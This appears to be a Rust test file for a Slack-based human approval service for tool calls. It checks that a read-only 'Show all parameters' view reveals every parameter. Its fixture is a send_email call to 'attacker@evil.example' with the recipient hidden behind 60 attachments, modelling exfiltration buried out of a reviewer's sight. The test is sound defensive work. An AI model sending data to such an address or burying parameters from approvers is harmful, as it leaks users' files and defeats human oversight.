//! Parameters too large for the message: every key still shows, and Show all
//! parameters opens them whole, read only, for whoever sees the message.

use reqwest::StatusCode;
use serde_json::{Value, json};
use signoff::approval::{Approval, ApprovalId};

use crate::common::fake_slack::Failure;
use crate::helpers::*;

/// `send_email` to an attacker, behind 60 attachments: 120 lines before the `to` one.
async fn email_behind_attachments(app: &TestApp) -> Approval {
    let attachments: Vec<Value> = (1..=60)
        .map(|i| json!({"name": format!("f{i}.pdf"), "url": format!("https://files.example/{i}")}))
        .collect();
    let parameters = json!({"attachments": attachments, "to": "attacker@evil.example"});
    let body = json!({"tool_name": "send_email", "parameters": parameters});
    let approval = asked(app, &app.token, &body).await;
    app.run_jobs().await;
    approval
}

/// The JSON a parameters modal shows: its sections after the intro, joined.
fn modal_json(view: &Value) -> Value {
    let blocks = view["blocks"].as_array().expect("blocks");
    let text: String = blocks[1..]
        .iter()
        .map(|block| block["text"]["text"].as_str().unwrap_or_default())
        .collect();
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}: {text}"))
}

#[tokio::test]
async fn show_all_parameters_opens_them_whole_for_anyone_who_sees_the_message() {
    let app = spawn_app().await;
    let approval = email_behind_attachments(&app).await;
    let posted = app.slack.calls_to("chat.postMessage")[0].body.clone();
    assert!(
        action_ids(&posted).contains(&"show_parameters".to_owned()),
        "{posted}"
    );
    assert!(
        posted.to_string().contains("• to: attacker@evil.example"),
        "{posted}"
    );

    // Not a vote: anyone who sees the message may look, approver or not.
    let (status, _) = app
        .click_shown(&approval, "U0MALLORY", "show_parameters")
        .await;
    assert_eq!(status, StatusCode::OK);
    let opened = app.slack.wait_for("views.open", 1).await;
    assert_eq!(opened[0].body["trigger_id"], "12345.98765.abcd");
    let view = &opened[0].body["view"];
    assert_eq!(view["callback_id"], "show_parameters");
    assert!(view.get("submit").is_none(), "read only: {view}");
    assert_eq!(modal_json(view), approval.parameters, "all of it, exactly");
    let now = app.approval(&approval).await;
    assert!(now.votes.is_empty(), "{:?}", now.votes);
}

#[tokio::test]
async fn show_all_parameters_says_when_slack_would_not_open_them_or_they_are_gone() {
    let app = spawn_app().await;
    let approval = email_behind_attachments(&app).await;
    app.slack
        .fail_next("views.open", Failure::NotOk("invalid_arguments"));
    app.click_shown(&approval, "U0ALICE", "show_parameters")
        .await;
    let told = app.ephemerals_to("U0ALICE", 1).await;
    assert_eq!(told.len(), 1, "{told:?}");
    assert!(
        told[0].contains("Slack would not open the parameters"),
        "{told:?}"
    );
    // Where else to read them, should the form be too large for Slack.
    let elsewhere = format!("GET /v1/approvals/{}", approval.id);
    assert!(told[0].contains(&elsewhere), "{told:?}");

    let posted = app.message(&approval, "main").await;
    let unknown = ApprovalId::new().to_string();
    let click = click_payload(
        &unknown,
        "U0BOB",
        "show_parameters",
        &posted.channel,
        &posted.ts,
    );
    let (status, _) = app.interact(&click).await;
    assert_eq!(status, StatusCode::OK);
    let told = app.ephemerals_to("U0BOB", 2).await;
    assert_eq!(told.len(), 1, "{told:?}");
    assert!(told[0].contains("does not exist"), "{told:?}");
    assert_eq!(
        app.slack.calls_to("views.open").len(),
        1,
        "only the failed one"
    );
}
